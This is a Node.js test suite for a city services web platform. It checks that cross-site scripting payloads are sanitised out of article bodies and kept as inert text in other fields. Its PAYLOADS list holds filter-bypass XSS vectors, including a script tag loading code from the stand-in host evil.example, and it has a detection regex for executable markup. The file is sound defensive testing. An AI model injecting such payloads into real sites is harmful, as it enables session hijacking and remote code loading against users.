// Cross-site scripting: script, event-handler and javascript: payloads go into every
// rich-text field (an article's body) and every plain-text field (titles, summaries, the
// fields of each kind, estates, staff names, regions, calendar days, objections,
// decisions). Rich text comes back with nothing executable left in it; plain text comes
// back as the very text that was sent, only ever inside JSON (never as HTML), or is
// refused. The web apps put server text into pages as text, except the sanitised body.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { startGzf } from '../lib/gzf.mjs';
import { startSim } from '../lib/sim.mjs';
import { newPhone, session, staffLogin } from '../lib/accounts.mjs';
import { png } from '../lib/files.mjs';

const PASSWORD = 'Gzf-demo-2026';
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/api/v1/media/PICTURE" onerror="alert(1)">', // PICTURE: a content picture of the city
  '<svg onload=alert(1)><circle r=1></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<p style="background:url(javascript:alert(1))" onclick="alert(1)" onmouseover=alert(2)>p</p>',
  '"><script>alert(1)</script>',
  '<body onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<scr<script>ipt>alert(1)</script>',
];
// What must never survive in sanitised HTML.
const EXECUTABLE = /<\s*(script|iframe|svg|math|object|embed|style|body)\b|\son[a-z]+\s*=|javascript:|data:text|style\s*=/i;

let sim, srv, editor, admin, housing, clerk;

before(async () => {
  sim = await startSim();
  srv = await startGzf({ demo: true, sim });
  editor = await staffLogin(srv, 'dq_editor', PASSWORD);
  admin = await staffLogin(srv, 'dq_admin', PASSWORD);
  housing = await staffLogin(srv, 'dq_housing', PASSWORD);
  clerk = await staffLogin(srv, 'sz_clerk', PASSWORD);
  // A picture the editor may show, so the image payload is refused for its handler alone.
  const up = await editor.request('POST', '/api/v1/media?purpose=image&name=p.png',
    { body: png(8, 6), headers: { 'content-type': 'image/png' } });
  assert.equal(up.status, 201, up.text);
  PAYLOADS.forEach((p, i) => { PAYLOADS[i] = p.replace('PICTURE', String(up.json.media.id)); });
});
after(async () => {
  await srv.stop();
  await sim.stop();
});

function json(r) {
  assert.match(r.headers.get('content-type'), /^application\/json/);
  assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
  return r.json;
}

test('rich text: no payload survives in an article body, on create and on update, nor when published', async () => {
  for (const payload of PAYLOADS) {
    let r = await editor.request('POST', '/api/v1/content', { json: { kind: 'news', title: '测试', body_html: `<p>前</p>${payload}<p>后</p>` } });
    assert.equal(r.status, 201, r.text);
    const a = json(r).article;
    assert.doesNotMatch(a.body_html, EXECUTABLE, `${payload} -> ${a.body_html}`);
    assert.match(a.body_html, /<p>前<\/p>/);
    r = await editor.request('PUT', `/api/v1/content/${a.id}`, { json: { version: a.version, body_html: payload.repeat(2) } });
    assert.equal(r.status, 200, r.text);
    assert.doesNotMatch(json(r).article.body_html, EXECUTABLE, payload);
    r = await editor.request('POST', `/api/v1/content/${a.id}/publish`, { json: { version: r.json.article.version } });
    r = await session(srv).request('GET', `/api/v1/content/${a.id}`);
    assert.doesNotMatch(json(r).article.body_html, EXECUTABLE, payload);
  }
});

test('plain text: content titles, summaries and kind fields come back as sent, inside JSON only', async () => {
  for (const payload of PAYLOADS) {
    const body = { kind: 'guide', title: payload.slice(0, 120), summary: payload,
      fields: { conditions: payload, materials: payload, steps: payload, offices: payload } };
    const r = await editor.request('POST', '/api/v1/content', { json: body });
    assert.equal(r.status, 201, r.text);
    const a = json(r).article;
    assert.equal(a.title, body.title);
    assert.equal(a.summary, payload);
    assert.equal(a.fields.conditions, payload);
  }
  // The public list, too, is JSON.
  json(await session(srv).request('GET', '/api/v1/content?city=230600'));
});

test('plain text elsewhere: estates, staff, regions, calendar days — stored as text or refused, never HTML', async () => {
  let i = 0;
  const stored = { estate: 0, day: 0, region: 0 };
  for (const payload of PAYLOADS) {
    i += 1;
    let r = await housing.request('POST', '/api/v1/housing/estates', { json: {
      name: `小区${i}${payload}`.slice(0, 60), address: payload, region_code: 230603, facilities: payload, transport: payload } });
    if (r.status === 201) {
      const e = json(r).estate;
      assert.equal(e.facilities, payload);
      assert.equal(e.transport, payload);
      stored.estate += 1;
    } else {
      assert.equal(r.status, 400, r.text);
    }
    r = await admin.request('POST', '/api/v1/staff', { json: {
      username: `xss${i}`, display_name: payload.slice(0, 40), phone: newPhone(), password: 'Passw0rd-gzf', role: 'content_editor', region_code: 230600 } });
    // A staff member's name is a person's name: markup is refused, with the field named.
    assert.equal(r.status, 400, r.text);
    assert.equal(json(r).error.field, 'display_name', r.text);
    r = await admin.request('PUT', `/api/v1/calendar/days/2031-01-${String(i).padStart(2, '0')}`, { json: { kind: 'holiday', name: payload.slice(0, 40), city_id: 230600 } });
    if (r.status === 200) stored.day += json(r).day.name === payload.slice(0, 40);
    else assert.equal(r.status, 400, r.text);
    r = await admin.request('POST', '/api/v1/regions', { json: { code: 230603001100 + i, parent_code: 230603001, level: 'community', name: payload.slice(0, 30) } });
    if (r.status === 201) stored.region += json(r).name === payload.slice(0, 30);
    else assert.equal(json(r) && r.status, 400, r.text);
  }
  // Text with markup in it is text: most of it is kept, exactly as sent.
  for (const [what, n] of Object.entries(stored)) assert.ok(n >= PAYLOADS.length / 2, `${what}: only ${n} kept`);
  // A decision's reason: the clerk asks for corrections with a payload as the reason.
  const r = await clerk.request('GET', '/api/v1/worklist?per_page=100');
  const item = json(r).items.find((x) => x.step === 'acceptance');
  assert.ok(item, 'the demo data have an application at acceptance');
  const d = await clerk.request('POST', `/api/v1/applications/${item.id}/decision`, { json: { action: 'correct', reason: PAYLOADS[2], version: item.version } });
  assert.equal(d.status, 200, d.text);
  assert.equal(json(d).application.correction_reason, PAYLOADS[2]);
});

test('the web apps render server text as text: v-html only for the sanitised article body', () => {
  const root = fileURLToPath(new URL('../../web/src/', import.meta.url));
  const uses = [];
  const walk = (dir) => {
    for (const name of readdirSync(dir)) {
      const path = join(dir, name);
      if (statSync(path).isDirectory()) walk(path);
      else if (name.endsWith('.vue')) {
        for (const line of readFileSync(path, 'utf8').split('\n'))
          if (/v-html=|innerHTML/.test(line)) uses.push(`${path.slice(root.length)}: ${line.trim()}`);
      }
    }
  };
  walk(root);
  // Every place that writes HTML into a page writes a body the server sanitised.
  assert.ok(uses.length > 0);
  assert.ok(uses.every((u) => /v-html="[\w.?]*body_html"|innerHTML.*body_html|body_html.*innerHTML/.test(u)), uses.join('\n'));
});
